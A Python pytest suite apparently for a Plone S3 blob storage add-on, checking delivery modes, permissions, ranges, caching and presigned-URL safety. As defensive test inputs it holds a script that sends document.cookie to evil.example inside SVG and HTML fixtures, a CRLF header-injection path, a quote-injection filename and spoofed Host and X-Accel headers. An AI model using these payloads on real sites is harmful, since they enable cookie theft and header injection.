"""Files of a running site in each mode of delivery, compared with those of a site without the add-on beside it."""

from __future__ import annotations

import email
import io
import itertools
import math
import re
import secrets
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from http.client import HTTPConnection
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit

import payloads
import pytest
from fixtures_servers import s3_client
from payloads import Payload
from PIL import Image
from servers import faults, nginx
from servers.proxy import Proxy
from web_client import Answer, WebClient, json_file
from zope_instance import ZopeInstance

pytestmark = pytest.mark.one_release

behind_nginx = pytest.mark.skipif(not nginx.available(), reason="Debian's package nginx-light is not installed")
MODES = ("stream", "proxy", "redirect", pytest.param("x-accel", marks=behind_nginx))
SITES = ("with", "without")

SECTION = """\
  <s3blobstorage>
    bucket-name {bucket}
    s3-prefix plone
    s3-endpoint-url {endpoint}
    s3-public-endpoint-url {server.endpoint_url}
    s3-region {server.region}
    s3-access-key {server.access_key}
    s3-secret-key {server.secret_key}
    s3-addressing-style path
    create-bucket on
    cache-dir {home}/cache
    inline-size 50
    presign-max-expiry 30m
    x-accel-location /s3blobs
    <filestorage>
      path {home}/var/Data.fs
    </filestorage>
  </s3blobstorage>"""
VIEW = """
  <browser:page name="make-ready" for="*" class="delivery_inside.MakeReady" permission="zope2.ViewManagementScreens" />
  <browser:page name="caching" for="*" class="delivery_inside.Caching" permission="zope2.ViewManagementScreens" />
"""

HOSTILE = b"<script>fetch('//evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">' + HOSTILE + b"<!--%s--></svg>"
NAME = "a\"b;ü; filename=x.html '%"


def jpeg() -> bytes:
    file = io.BytesIO()
    Image.effect_noise((600, 400), 90).convert("RGB").save(file, "JPEG")
    return file.getvalue()


FILES = {
    "svg": Payload("picture.svg", "image/svg+xml", SVG % secrets.token_hex(8).encode()),
    "html": Payload("page.html", "text/html", b"<html><body><p>hello" + HOSTILE + secrets.token_hex(8).encode()),
    "pdf": payloads.pdf(),
    "jpeg": Payload(NAME + ".jpg", "image/jpeg", jpeg()),
    "video": Payload("ü" * 296 + ".mp4", "video/mp4", secrets.token_bytes(200_000)),
    "text": Payload("notes.txt", "text/plain", b"some notes\n" * 30),
    "tiny": Payload("tiny.txt", "text/plain", b"tiny"),  # lies in its record
    "in-zodb": Payload("old.pdf", "application/pdf", b"%PDF-old" * 100),  # is no blob
}
HTML = FILES["html"].data


@pytest.fixture(scope="module")
def between(s3_server) -> Iterator[Proxy]:
    """What the instance takes for its store; it counts."""
    with Proxy(s3_server.endpoint_url) as proxy:
        yield proxy


@pytest.fixture(scope="module")
def instance(request, s3_server, between, tmp_path_factory) -> Iterator[ZopeInstance]:
    home = tmp_path_factory.mktemp("delivery")
    section = getattr(request.module, "SECTION", SECTION).format(
        bucket=f"delivery-{uuid.uuid4().hex[:20]}", endpoint=between.endpoint_url, server=s3_server, home=home
    )
    environment = {"PYTHONPATH": str(Path(__file__).parent), "NOTES": str(home / "notes")}
    zope = ZopeInstance(
        home, home / "cache", section, password=secrets.token_urlsafe(12), environment=environment,
        zcml=VIEW, filter="delivery_inside:noting", waitress="outbuf_high_watermark = 1048576",
    )  # fmt: skip
    zope.make()
    zope.start()
    yield zope
    zope.stop()


@pytest.fixture(scope="module")
def front(instance, s3_server, tmp_path_factory) -> Iterator[nginx.Nginx]:
    """The nginx of the documentation in front of the instance."""
    server = nginx.Nginx(tmp_path_factory.mktemp("nginx"), instance.port, s3_server.endpoint_url).start()
    yield server
    server.stop()


@dataclass
class Sites:
    """Both sites with the same content, as reached through ``port``."""

    instance: ZopeInstance
    port: int

    def client(self, site: str, user: str | None = None) -> WebClient:
        return WebClient(self.port, site, (user, self.instance.password) if user else None)

    def set(self, **records: object) -> None:
        """Delivery records of the site with the add-on, all others as in a new one."""
        values = {
            "mode": "stream", "minimum_size": 0, "portal_types": [], "mime_types": [], "anonymous_only": False,
            "expiry": 300, "media_expiry": 3600, **records,
        }  # fmt: skip
        names = {f"collective.s3blobstorage.delivery_{name}": value for name, value in values.items()}
        self.client("with", "admin").api("PATCH", "@registry", names, expect=204)

    def notes(self) -> list[str]:
        """What was noted inside Zope since the last call."""
        notes = Path(self.instance.environment["NOTES"])
        found = notes.read_text().splitlines() if notes.exists() else []
        notes.write_text("")
        return found


@pytest.fixture(scope="module")
def sites(instance) -> Sites:
    sites = Sites(instance, instance.port)
    for site in SITES:
        admin = sites.client(site, "admin")
        made = admin.get(f"@@make-ready?{urlencode({'password': instance.password})}")
        assert (made.status, made.body) == (200, b"made"), made.body[-2000:]
        for folder in ("public", "private"):
            for name, payload in FILES.items():
                if name == "in-zodb":
                    continue
                admin.add(folder, "File", name, file=json_file(payload.data, payload.filename, payload.content_type))
            for name in ("jpeg", "svg"):
                payload = FILES[name]
                sent = {"image": json_file(payload.data, payload.filename, payload.content_type)}
                admin.add(folder, "Image", f"image-{name}", **sent)
            sent = {name: json_file(FILES["pdf"].data, "x.pdf", "application/pdf") for name in ("guarded", "open")}
            old = FILES["in-zodb"]
            sent["old"] = json_file(old.data, old.filename, old.content_type)
            admin.add(folder, "Guarded", "guarded", **sent)
    return sites


@pytest.fixture
def mode(request, sites) -> Iterator[str]:
    sites.set(mode=request.param)
    if request.param == "x-accel":
        sites.port = request.getfixturevalue("front").port
    yield request.param
    sites.port = sites.instance.port
    sites.set()


in_each_mode = pytest.mark.parametrize("mode", MODES, indirect=True)


def cookie(sites: Sites, site: str, user: str) -> dict[str, str]:
    """The header of a browser in which that user has logged in."""
    form = urlencode({"__ac_name": user, "__ac_password": sites.instance.password, "buttons.login": "Log in"})
    sent = {"Content-Type": "application/x-www-form-urlencoded"}
    answer = sites.client(site).request("POST", "login", form.encode(), sent)
    cookies = [line.partition(";")[0] for line in answer.headers.get_all("Set-Cookie", ())]
    assert any(line.startswith("__ac=") for line in cookies), answer.headers.items()
    return {"Cookie": "; ".join(cookies)}


def from_store(url: str, method: str = "GET", **headers: str) -> Answer:
    """What a browser gets that follows a redirect."""
    parts = urlsplit(url)
    connection = HTTPConnection(parts.netloc, timeout=60)
    try:
        sent = {name.replace("_", "-"): value for name, value in headers.items()}
        connection.request(method, f"{parts.path}?{parts.query}", headers=sent)
        response = connection.getresponse()
        return Answer(response.status, response.headers, response.read())
    finally:
        connection.close()


def shows_no_url(answer: Answer) -> bool:
    text = str(answer.headers) + answer.body.decode("latin-1")
    return not re.search("X-Amz-Sig|X-Amz-Cred|Signature=|blobs/0|objects/", text, re.IGNORECASE)


def from_where(answer: Answer) -> str:
    return "store" if "X-Amz-Signature" in (answer.headers["Location"] or "") else "zope"


OF_THE_FILE = ("Content-Type", "Content-Disposition", "Content-Length")


def described(answer: Answer) -> dict[str, str | None]:
    return {name: answer.headers[name] for name in OF_THE_FILE}


def of_any_site(answer: Answer, site: str) -> tuple[int, str, str | None]:
    """Of a refusal what a visitor notices, without the site's name."""
    location = (answer.headers["Location"] or "").replace(f"/{site}/", "/SITE/").replace(f"%2F{site}%2F", "%2FSITE%2F")
    return answer.status, location, answer.headers["WWW-Authenticate"]


PATHS = [
    *(f"{name}/@@{view}/file" for name in FILES if name != "in-zodb" for view in ("download", "display-file")),
    *(f"{name}/@@download" for name in ("pdf", "html")),
    "pdf/@@download/file/another.pdf",
    "pdf/@@download/file/a%0D%0ASet-Cookie:%20x=1%0D%0A.pdf",
    "image-jpeg/@@images/image",
    "image-svg/@@images/image",
    "image-jpeg/@@images/image.jpeg",
    "image-jpeg/@@download/image",
    "guarded/@@download/old",
    "guarded/@@download/open",
    "guarded/@@download/guarded",
    "guarded/@@display-file/guarded",
    "pdf/@@download/nothing",
    "pdf/@@download/title",
    "pdf/@@images/image",
]


def name_of(path: str) -> str:
    """Whose bytes they are, in FILES."""
    if path == "guarded/@@download/old":
        return "in-zodb"
    return path.partition("/")[0].replace("image-", "").replace("guarded", "pdf")


PDF = "public/pdf/@@download/file"
VIDEO, PHOTO = "public/video/@@download/file", "public/image-jpeg/@@images/image"
USERS = (None, "member", "reviewer", "boss")


@in_each_mode
@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("state", ["public", "private"])
def test_who_may_have_what_and_under_which_headers_is_as_without_us(sites, mode, user, state):
    """Everything that Plone refuses is refused by the same answer, and all else has the same type and name, wherever
    the bytes come from."""
    headers = {site: cookie(sites, site, user) if user else {} for site in SITES}
    seen = set()
    for path, method in itertools.product(PATHS, ("GET", "HEAD")):
        stock, ours = (
            sites.client(site).request(method, f"{state}/{path}", headers=headers[site]) for site in ("without", "with")
        )
        where = f"{method} {state}/{path} as {user}"
        if stock.status != 200:
            assert of_any_site(ours, "with") == of_any_site(stock, "without"), where
            assert shows_no_url(ours), where
            assert stock.status in (302, 401, 404, 500), where
            seen.add("refused")
            continue
        expected = described(stock)
        if path.startswith("html/") and method == "GET":
            # plone.protect and the theme rewrite a page that somebody downloads, in mode stream too.
            expected["Content-Length"] = described(ours)["Content-Length"] if mode == "stream" else str(len(HTML))
        if mode == "redirect" and method == "GET" and name_of(path) not in ("tiny", "in-zodb"):
            assert (ours.status, ours.body) == (302, b""), where
            seen.add("redirected")
            ours = from_store(ours.headers["Location"])
            # What is stored as an attachment is inline only where somebody says so.
            expected["Content-Disposition"] = expected["Content-Disposition"] or "inline"
        else:
            assert shows_no_url(ours), where
        if mode == "x-accel" and ours.headers["Content-Disposition"] == "inline":
            expected["Content-Disposition"] = expected["Content-Disposition"] or "inline"
        seen.add("given")
        assert ours.status == 200, where
        assert described(ours) == expected, where
        if method == "HEAD":
            assert ours.body == b"", where
        elif "@@images" in path:
            assert payloads.fingerprint(ours.body) == payloads.fingerprint(stock.body), where
        elif not (path.startswith("html/") and mode == "stream"):
            assert payloads.fingerprint(ours.body) == FILES[name_of(path)].fingerprint, where
    private = state == "private" and user in (None, "member")
    if private:
        assert seen == {"refused"}
    else:
        assert seen == {"refused", "given"} | ({"redirected"} if mode == "redirect" else set())


@in_each_mode
def test_a_guarded_field_is_for_those_who_may_read_it_only(sites, mode):
    for user, view in itertools.product(USERS, ("download", "display-file")):
        headers = cookie(sites, "with", user) if user else {}
        answers = {
            field: sites.client("with").request("GET", f"public/guarded/@@{view}/{field}", headers=headers)
            for field in ("open", "guarded")
        }
        given = 302 if mode == "redirect" else 200
        assert answers["open"].status == given
        assert from_where(answers["open"]) == ("store" if mode == "redirect" else "zope")
        if user == "boss":
            assert answers["guarded"].status == given
        else:
            assert answers["guarded"].status in (302, 401)
            assert shows_no_url(answers["guarded"])


# Ranges and conditions, in mode proxy

LARGE_MB = 17  # five parts


@dataclass(frozen=True)
class Large:
    """A File in ``public`` that no cache has, since it is above what ``cache-fill-on-commit`` takes."""

    path: str
    data: bytes
    between: Proxy

    def fetched(self) -> int:
        """Bytes that came from the store since the last call."""
        gets = [exchange for exchange in self.between.exchanges if exchange.operation == "GetObject"]
        self.between.reset()
        return sum(exchange.bytes_down for exchange in gets)


@pytest.fixture
def large(sites, between) -> Large:
    name = uuid.uuid4().hex
    payload = payloads.noise(LARGE_MB, f"{name}.mp4")
    sites.client("with", "admin").add(
        "public", "File", name, file=json_file(payload.data, payload.filename, "video/mp4")
    )
    between.reset()
    sites.notes()
    return Large(f"public/{name}/@@download/file", payload.data, between)


@pytest.fixture
def proxy_mode(sites) -> Iterator[None]:
    sites.set(mode="proxy")
    yield
    sites.set()


@pytest.fixture
def visitor(sites) -> WebClient:
    return sites.client("with")


def test_a_range_of_a_cold_file_fetches_the_parts_that_it_is_in(visitor, proxy_mode, large):
    size = len(large.data)
    answer = visitor.get(large.path, Range="bytes=-100000")
    assert (answer.status, answer.headers["Content-Range"]) == (206, f"bytes {size - 100000}-{size - 1}/{size}")
    assert answer.headers["Content-Type"] == "video/mp4"
    assert answer.headers["Content-Length"] == "100000"
    assert answer.body == large.data[-100000:]
    assert 100000 <= large.fetched() <= 5 * payloads.MEGABYTE
    whole = visitor.get(large.path)
    assert (whole.status, payloads.fingerprint(whole.body)) == (200, payloads.fingerprint(large.data))


def test_many_ranges_are_parts_of_one_answer(visitor, proxy_mode, large):
    size = len(large.data)
    answer = visitor.get(large.path, Range=f"bytes=0-9,{size - 20}-,5000-5999")
    assert answer.status == 206
    assert answer.headers["Content-Length"] == str(len(answer.body))
    head = f"Content-Type: {answer.headers['Content-Type']}\r\n\r\n".encode()
    message = email.message_from_bytes(head + answer.body)
    assert message.get_content_type() == "multipart/byteranges"
    parts = message.get_payload()
    assert [(part["Content-Type"], part["Content-Range"]) for part in parts] == [
        ("video/mp4", f"bytes {start}-{end}/{size}") for start, end in ((0, 9), (size - 20, size - 1), (5000, 5999))
    ]
    # email takes the bytes for text: compared as they came.
    for wanted in (large.data[:10], large.data[-20:], large.data[5000:6000]):
        assert b"\r\n\r\n" + wanted + b"\r\n--" in answer.body
    assert large.fetched() <= 10 * payloads.MEGABYTE


def test_too_many_ranges_are_the_whole(visitor, proxy_mode):
    answer = visitor.get(
        "public/video/@@download/file", Range="bytes=" + ",".join(f"{9 * n}-{9 * n}" for n in range(50))
    )
    assert (answer.status, answer.body) == (200, FILES["video"].data)
    assert "Content-Range" not in answer.headers


def test_a_range_behind_the_end(visitor, proxy_mode, large):
    answer = visitor.get(large.path, Range=f"bytes={len(large.data)}-")
    assert (answer.status, answer.headers["Content-Range"], answer.body) == (416, f"bytes */{len(large.data)}", b"")
    assert large.fetched() == 0


def test_head_has_the_headers_of_get_and_asks_nobody(visitor, proxy_mode, sites, large):
    head = visitor.request("HEAD", large.path, headers={"Range": "bytes=0-9"})
    assert (head.status, head.body, large.between.lines) == (200, b"", [])
    get = visitor.get(large.path)
    changing = {"date", "x-cache-rule", "x-cache-operation", "x-frame-options"}  # the last by a transform, of GET only
    assert {k: v for k, v in head.headers.items() if k.lower() not in changing} == {
        k: v for k, v in get.headers.items() if k.lower() not in changing
    }
    assert head.headers["Content-Length"] == str(len(large.data))


@pytest.mark.parametrize("path", ["pdf/@@download/file", "image-jpeg/@@images/image"])
def test_conditions(visitor, proxy_mode, path):
    path = f"public/{path}"
    first = visitor.get(path)
    tag, date = first.headers["ETag"], first.headers["Last-Modified"]
    assert re.fullmatch('"[0-9a-f]{32}"', tag)
    for sent in ({"If_None_Match": tag}, {"If_None_Match": f'"x", W/{tag}'}, {"If_Modified_Since": date}):
        for method in ("GET", "HEAD"):
            answer = visitor.request(method, path, headers={k.replace("_", "-"): v for k, v in sent.items()})
            assert (answer.status, answer.body, answer.headers["ETag"]) == (304, b"", tag)
            assert "Content-Length" not in answer.headers
    assert visitor.get(path, If_None_Match='"x"').status == 200
    assert visitor.get(path, If_Match='"x"').status == 412
    assert visitor.get(path, Range="bytes=1-5", If_Range=tag).body == first.body[1:6]
    assert visitor.get(path, Range="bytes=1-5", If_Range='"x"').body == first.body
    assert visitor.get(path, Range="bytes=1-5", If_Range="W/" + tag).status == 200


@pytest.mark.parametrize("path", [PDF, PHOTO, "private/pdf/@@download/file"])
def test_without_rules_of_the_site_nobody_keeps_a_file_unasked(sites, proxy_mode, path):
    answer = sites.client("with").request("GET", path, headers=cookie(sites, "with", "boss"))
    assert (answer.status, answer.headers["Cache-Control"]) == (200, "max-age=0, must-revalidate, private")


def test_an_etag_is_of_the_bytes_and_of_what_they_are_called(visitor, proxy_mode, sites):
    admin = sites.client("with", "admin")
    admin.add("public", "File", "etags", file=json_file(b"some bytes" * 10, "a.bin", "application/octet-stream"))
    paths = ["public/etags/@@download/file", "public/etags/@@download/file/b.bin"]
    tags = [visitor.get(path).headers["ETag"] for path in paths]
    assert len(set(tags)) == 2
    admin.api("PATCH", "public/etags", {"file": json_file(b"some bytes" * 10, "a.bin", "image/png")}, expect=204)
    changed = visitor.get(paths[0], If_None_Match=tags[0])
    assert (changed.status, changed.headers["Content-Type"]) == (200, "image/png")


@pytest.mark.parametrize("mode", ["proxy", "redirect"], indirect=True)
def test_a_client_that_goes_away_stops_the_fetching(sites, instance, mode, between, large):
    between.round_trip(200)
    try:
        connection = HTTPConnection("127.0.0.1", instance.port, timeout=60)
        headers = {"Accept": "application/json"}  # which is never redirected
        connection.request("GET", f"/with/{large.path}", headers=headers)
        response = connection.getresponse()
        assert response.read(100_000) == large.data[:100_000]
        assert response.status == 200
        connection.close()
        response.close()
        time.sleep(3)
    finally:
        between.round_trip(0)
    assert sites.client("with").get(large.path, Accept="application/json", Range="bytes=0-0").status == 206
    assert len(large.data) > large.fetched()


def test_a_store_that_is_out_is_an_error_page(visitor, proxy_mode, instance, large):
    large.between.fail(faults.answer(403, "AccessDenied"), method="GET", target="blobs/", times=math.inf)
    try:
        answer = visitor.get(large.path)
    finally:
        large.between.forgive()
    assert answer.status == 500
    assert shows_no_url(answer)
    assert b"delivery-" not in answer.body


class Slow:
    """A client that takes a little of a file, and then nothing."""

    def __init__(self, port: int, path: str) -> None:
        self._connection = HTTPConnection("127.0.0.1", port, timeout=60)
        self._connection.request("GET", path)
        self.response = self._connection.getresponse()
        self.taken = self.response.read(1000)

    def close(self) -> None:
        self.response.close()
        self._connection.close()


@pytest.mark.parametrize("headers", [{}, {"Range": "bytes=1-"}])
def test_slow_clients_of_files_on_the_disk_take_no_thread(visitor, proxy_mode, instance, sites, large, headers):
    assert payloads.fingerprint(visitor.get(large.path).body) == payloads.fingerprint(large.data)
    sites.notes()
    clients = [Slow(instance.port, f"/with/{large.path}") for _ in range(12)]
    try:
        started = time.monotonic()
        assert visitor.get("public/text/@@download/file", **headers).status in (200, 206)
        assert time.monotonic() - started < 5
        assert sites.notes().count("file Slice") == 13
    finally:
        for client in clients:
            client.close()


# Redirects


@pytest.fixture
def redirect_mode(sites) -> Iterator[None]:
    sites.set(mode="redirect")
    yield
    sites.set()


def test_a_redirect_is_decided_without_the_blob_and_without_the_store(visitor, redirect_mode, sites, instance, large):
    visitor.get("public/pdf/@@download/file")  # what is imported and made once
    large.between.reset()
    sites.notes()
    answer = visitor.get(large.path)
    assert answer.status == 302
    assert large.between.lines == []
    assert sites.notes() == []
    assert len(str(answer.headers)) + len(answer.body) < 4096  # of Zope, for 17 MB
    whole = from_store(answer.headers["Location"])
    assert payloads.fingerprint(whole.body) == payloads.fingerprint(large.data)
    part = from_store(answer.headers["Location"], Range="bytes=-5")
    assert (part.status, part.body) == (206, large.data[-5:])


def test_nor_after_a_restart_with_an_empty_cache(visitor, redirect_mode, sites, instance, large):
    instance.restart_with_empty_cache()
    for path in ("public/text", "public"):
        visitor.get(path)
    visitor.get("public/pdf/@@download/file")
    large.between.reset()
    sites.notes()
    assert visitor.get(large.path).status == 302
    assert [line for line in large.between.lines if "blobs/" in line] == []
    assert sites.notes() == []


def test_a_redirect_is_kept_by_nobody(visitor, redirect_mode):
    answer = visitor.get("public/video/@@download/file")
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    for name in ("Expires", "ETag", "Last-Modified", "Content-Disposition", "Content-Type", "Link"):
        assert name not in answer.headers
    assert answer.headers["Content-Length"] == "0"


def signed(answer: Answer) -> dict[str, str]:
    """The query of the URL in a redirect."""
    return {name: values[0] for name, values in parse_qs(urlsplit(answer.headers["Location"]).query).items()}


@pytest.mark.parametrize(("name", "seconds"), [("pdf", 300), ("video", 1800)])  # zope.conf's bound is under the hour
def test_for_how_long_a_url_and_its_answer_are_good(visitor, redirect_mode, name, seconds):
    query = signed(visitor.get(f"public/{name}/@@download/file"))
    assert query["X-Amz-Expires"] == str(seconds)
    assert query["response-cache-control"] == f"public, max-age={seconds // 2}"


def test_the_bound_of_zope_conf_holds_whatever_the_record_says(visitor, sites):
    sites.set(mode="redirect", expiry=604800, media_expiry=604800)
    try:
        assert signed(visitor.get("public/pdf/@@download/file"))["X-Amz-Expires"] == "1800"
        assert signed(visitor.get("public/video/@@download/file"))["X-Amz-Expires"] == "1800"
    finally:
        sites.set()


@pytest.mark.parametrize(
    ("path", "user", "kept"),
    [
        ("public/pdf/@@download/file", None, "public"),
        ("public/pdf/@@download/file", "boss", "public"),
        ("private/pdf/@@download/file", "boss", "private"),
        ("private/pdf/@@download/file", "reviewer", "private"),
        ("public/guarded/@@download/open", "boss", "public"),
        ("public/guarded/@@download/guarded", "boss", "private"),
        ("private/image-jpeg/@@images/image", "boss", "private"),
        ("public/image-jpeg/@@images/image", "boss", "public"),
    ],
)
def test_only_what_anonymous_may_view_is_kept_by_shared_caches(sites, redirect_mode, path, user, kept):
    headers = cookie(sites, "with", user) if user else {}
    answer = sites.client("with").request("GET", path, headers=headers)
    assert answer.status == 302
    assert signed(answer)["response-cache-control"] == f"{kept}, max-age=150"
    assert from_store(answer.headers["Location"]).headers["Cache-Control"] == f"{kept}, max-age=150"


def test_one_url_for_some_minutes(visitor, redirect_mode):
    urls = set()
    for _ in range(3):
        urls.add(visitor.get("public/video/@@download/file").headers["Location"])
        time.sleep(1.1)
    assert len(urls) <= 2  # two where the half ends meanwhile


def test_the_url_is_good_for_its_file_and_this_method_only(visitor, redirect_mode):
    url = visitor.get("public/html/@@display-file/file").headers["Location"]
    assert from_store(url).headers["Content-Disposition"].startswith("attachment")
    other = visitor.get("public/pdf/@@download/file").headers["Location"]
    assert from_store(url.replace(urlsplit(url).path, urlsplit(other).path)).status == 403
    assert from_store(url.replace("attachment", "inline")).status == 403
    assert from_store(url.replace("text%2Fhtml", "text%2Fplain")).status == 403
    assert from_store(url, "PUT").status == 403
    assert from_store(url, "DELETE").status == 403


@pytest.mark.parametrize(
    "headers",
    [
        {"Accept": "application/json"},
        {"Accept": "text/html, Application/JSON;q=0.5"},
        {"Authorization": "Bearer abc"},
        {"Authorization": "Basic bm9ib2R5Om5vdGhpbmc="},
        {"Sec-Fetch-Mode": "cors"},
    ],
)
def test_who_would_carry_something_to_the_store_is_not_sent_there(visitor, redirect_mode, headers):
    answer = visitor.request("GET", "public/pdf/@@download/file", headers=headers)
    assert answer.status in (200, 401)
    assert shows_no_url(answer)
    if answer.status == 200:
        assert answer.body == FILES["pdf"].data


def test_a_download_that_goes_on_after_a_change_does_not_get_a_part_of_the_new_file(visitor, redirect_mode):
    """Whoever asks with ``If-Range`` has a part of something: a store that ignores that would give a part of this."""
    headers = {"Range": "bytes=100-", "If-Range": '"of-another-file"'}
    answer = visitor.request("GET", "public/pdf/@@download/file", headers=headers)
    assert (answer.status, answer.body) == (200, FILES["pdf"].data)
    headers["If-Range"] = answer.headers["ETag"]
    answer = visitor.request("GET", "public/pdf/@@download/file", headers=headers)
    assert (answer.status, answer.body) == (206, FILES["pdf"].data[100:])


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "evil.example"},
        {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "Forwarded": "host=evil.example"},
        {"X-Accel-Redirect": "/evil", "X-Accel-Mapping": "/=/evil", "X-Sendfile-Type": "X-Accel-Redirect"},
    ],
)
def test_no_header_of_the_request_says_where_to(visitor, redirect_mode, s3_server, headers):
    answer = visitor.request("GET", "public/pdf/@@download/file?url=http://evil.example", headers=headers)
    assert answer.headers["Location"].startswith(s3_server.endpoint_url + "/delivery-")
    assert "evil" not in str(answer.headers)


def test_scales(sites, visitor, redirect_mode):
    """The first request makes the scale, which is not committed then; the next ones find it in the bucket."""
    first = visitor.get("public/image-jpeg/@@images/image/preview")
    assert first.status == 200
    again = visitor.get("public/image-jpeg/@@images/image/preview")
    assert again.status == 302
    assert from_store(again.headers["Location"]).body == first.body
    item = sites.client("with").api("GET", "public/image-jpeg", expect=200)
    url = item["image"]["scales"]["mini"]["download"]
    stable = visitor.path_of(url)
    given = visitor.get(stable)
    stored = visitor.get(stable)
    assert stored.status == 302
    assert given.status == 200
    kept = from_store(stored.headers["Location"])
    assert (kept.headers["Content-Type"], kept.body) == (given.headers["Content-Type"], given.body)
    assert sites.client("with").get(stable.replace("public", "private")).status in (302, 401, 404)


@pytest.mark.parametrize(
    ("records", "redirected"),
    [
        ({"minimum_size": 1000}, {"video", "pdf"}),
        ({"mime_types": ["video/*"]}, {"video"}),
        ({"portal_types": ["Image"]}, set()),
        ({"portal_types": ["File"]}, {"video", "pdf", "text"}),
        ({"anonymous_only": True}, {"video", "pdf", "text"}),
    ],
)
def test_what_the_site_redirects(sites, visitor, records, redirected):
    sites.set(mode="redirect", **records)
    try:
        found = {
            name for name in ("video", "pdf", "text") if visitor.get(f"public/{name}/@@download/file").status == 302
        }
        assert found == redirected
        if "anonymous_only" in records:
            answer = visitor.request("GET", "public/pdf/@@download/file", headers=cookie(sites, "with", "member"))
            assert (answer.status, answer.body) == (200, FILES["pdf"].data)
    finally:
        sites.set()


# In a browser


@pytest.fixture(scope="module")
def film(sites) -> str:
    """The path of a video of twenty seconds, large enough to be read by parts and not to be cached when it comes."""
    video = payloads.video(seconds=20)
    file = json_file(video.data, video.filename, video.content_type)
    sites.client("with", "admin").add("public", "File", "film", file=file)
    return "public/film/@@download/file"


@pytest.mark.parametrize("mode", ["proxy", "redirect", pytest.param("x-accel", marks=behind_nginx)], indirect=True)
def test_a_browser_plays_and_seeks_by_ranges(sites, instance, between, chromium, film, mode):
    context = chromium.new_context(base_url=f"http://localhost:{sites.port}")
    page = context.new_page()
    answers: list[tuple[int, bool, int]] = []

    def note(response):
        begin = re.match(r"bytes (\d+)-", response.headers.get("content-range", ""))
        answers.append((response.status, "X-Amz-Signature" in response.url, int(begin[1]) if begin else 0))

    page.on("response", note)
    try:
        page.goto("/@@s3blobstorage-ready")
        between.reset()
        answers.clear()
        played = page.evaluate(
            """async (src) => {
                const video = document.createElement("video");
                const until = (name) => new Promise((done, fail) => {
                    video.addEventListener(name, done, {once: true});
                    video.addEventListener("error", () => fail(video.error.message), {once: true});
                });
                let next = until("canplay");
                video.muted = true;
                video.preload = "metadata";
                video.src = src;
                document.body.append(video);
                await next;
                next = until("seeked");
                video.currentTime = 18.5;
                await next;
                next = until("ended");
                await video.play();
                await next;
                return [video.videoWidth, Math.round(video.duration), Math.round(video.currentTime)];
            }""",
            f"/with/{film}",
        )
    finally:
        context.close()
    assert played == [320, 20, 20]
    assert any(status == 206 and begin > 5_000_000 for status, _, begin in answers), answers
    from_bucket = [status for status, signed_, _ in answers if signed_]
    if mode == "redirect":
        assert from_bucket and set(from_bucket) == {206}
        assert between.lines == []
    else:
        assert from_bucket == []


# With plone.app.caching


@pytest.fixture(params=["with-caching-proxy", "without-caching-proxy"])
def caching(request, sites) -> Iterator[str]:
    admin = sites.client("with", "admin")
    assert admin.get(f"@@caching?profile={request.param}&enabled=1").body == b"caching"
    yield request.param
    assert admin.get("@@caching?enabled=").body == b"caching"


@pytest.mark.parametrize("path", [VIDEO, PHOTO])
def test_plone_app_caching_does_not_keep_a_redirect(visitor, sites, caching, path):
    sites.set(mode="proxy")
    ruled = visitor.get(path)
    assert ruled.headers["X-Cache-Operation"], "its rules are not on"
    assert "no-store" not in ruled.headers["Cache-Control"]
    sites.set(mode="redirect")
    try:
        for _ in range(2):
            answer = visitor.get(path)
            assert (answer.status, answer.headers["Cache-Control"]) == (302, "no-store")
            assert answer.headers["X-Cache-Operation"]  # it was asked, and did not get its way
            for name in ("Expires", "ETag", "Last-Modified"):
                assert name not in answer.headers
    finally:
        sites.set()


def test_nor_does_it_break_ranges_and_conditions_of_proxy(visitor, caching, proxy_mode):
    first = visitor.get(VIDEO)
    tag = first.headers["ETag"]
    assert first.headers.get_all("ETag") == [tag]
    assert visitor.get(VIDEO, If_None_Match=tag).status == 304
    part = visitor.get(VIDEO, Range="bytes=5-9", If_Range=tag)
    assert (part.status, part.body) == (206, FILES["video"].data[5:10])
    assert visitor.get(VIDEO, Range="bytes=5-9", If_Range='"x"').status == 200


def test_nor_does_it_keep_bodies_in_memory(visitor, sites, caching):
    """It would fetch all of a file for that, whatever a client takes of it."""
    sites.client("with", "admin").get("@@caching?enabled=1&ram=1")
    ways = {}
    for mode in ("stream", "proxy"):
        sites.set(mode=mode)
        path = f"public/text/@@download/file/{mode}.txt"
        ways[mode] = [visitor.get(path).headers["X-RAMCache"] for _ in range(2)]
    sites.set()
    assert ways["proxy"] == [None, None]
    assert ways["stream"][1] is not None, "it keeps nothing here"


# Behind nginx


@pytest.fixture
def x_accel_mode(sites) -> Iterator[None]:
    sites.set(mode="x-accel")
    yield
    sites.set()


@pytest.fixture
def through(sites, x_accel_mode, front) -> WebClient:
    """A visitor who comes through nginx."""
    return WebClient(front.port, "with")


@behind_nginx
class TestBehindNginx:
    def test_nginx_fetches_and_zope_does_not(self, through, sites, large):
        through.get("public/pdf/@@download/file")
        large.between.reset()
        sites.notes()
        answer = through.get(large.path)
        assert (answer.status, payloads.fingerprint(answer.body)) == (200, payloads.fingerprint(large.data))
        assert (large.between.lines, sites.notes()) == ([], [])
        assert shows_no_url(answer)
        assert not [name for name in answer.headers if name.lower().startswith(("x-accel", "x-s3blobs", "x-amz-"))]

    def test_ranges(self, through, large):
        size = len(large.data)
        answer = through.get(large.path, Range="bytes=-100")
        assert (answer.status, answer.body) == (206, large.data[-100:])
        assert answer.headers["Content-Range"] == f"bytes {size - 100}-{size - 1}/{size}"
        assert through.get(large.path, Range="bytes=5-9", If_Range=answer.headers["ETag"]).body == large.data[5:10]
        assert len(through.get(large.path, Range="bytes=5-9", If_Range='"x"').body) == size
        behind = through.get(large.path, Range=f"bytes={size}-")
        assert behind.status == 416
        assert shows_no_url(behind)

    def test_conditions_are_plones(self, through):
        first = through.get(PDF)
        for headers in (
            {"If-None-Match": first.headers["ETag"]},
            {"If-Modified-Since": first.headers["Last-Modified"]},
        ):
            again = through.request("GET", PDF, headers=headers)
            assert (again.status, again.body) == (304, b"")
        head = through.request("HEAD", PDF)
        for name in ("ETag", "Last-Modified", "Content-Type", "Content-Disposition", "Content-Length"):
            assert head.headers[name] == first.headers[name]

